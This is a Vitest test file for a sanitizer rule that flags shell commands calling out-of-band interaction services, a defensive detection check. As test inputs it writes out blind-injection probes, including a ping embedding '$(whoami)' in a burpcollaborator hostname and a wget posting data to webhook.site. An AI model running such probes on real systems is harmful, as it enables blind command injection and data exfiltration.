/**
 * shell.probe. Probes: OWASP WSTG "Testing for Command Injection" (blind injection confirmed
 * through out-of-band callbacks) and the interaction services named in ProjectDiscovery's
 * interactsh README (projectdiscovery/interactsh).
 */
import { beforeAll, describe, expect, it } from "vitest";
import { loadShellParser } from "../../../src/sanitizer/shell/parser.js";
import { cmd } from "./first-rule.js";

beforeAll(() => loadShellParser());

describe("shell.probe", () => {
  it("blocks commands that call an interaction service", () => {
    expect(cmd("nslookup x.oastify.com")).toBe("shell.probe");
    expect(cmd("npm test && curl https://abc.interact.sh")).toBe("shell.probe");
    expect(cmd("ping -c 1 $(whoami).abc.burpcollaborator.net")).toBeDefined();
    expect(cmd("wget --post-data=x https://webhook.site/0b1c")).toBeDefined();
  });

  it("passes recon and ordinary network checks, chained or not", () => {
    expect(cmd("git status;id")).toBeUndefined();
    expect(cmd("npm test && whoami")).toBeUndefined();
    expect(cmd("curl -fsS https://api.example.com/health && npm test")).toBeUndefined();
    expect(cmd("nslookup example.com")).toBeUndefined();
  });
});
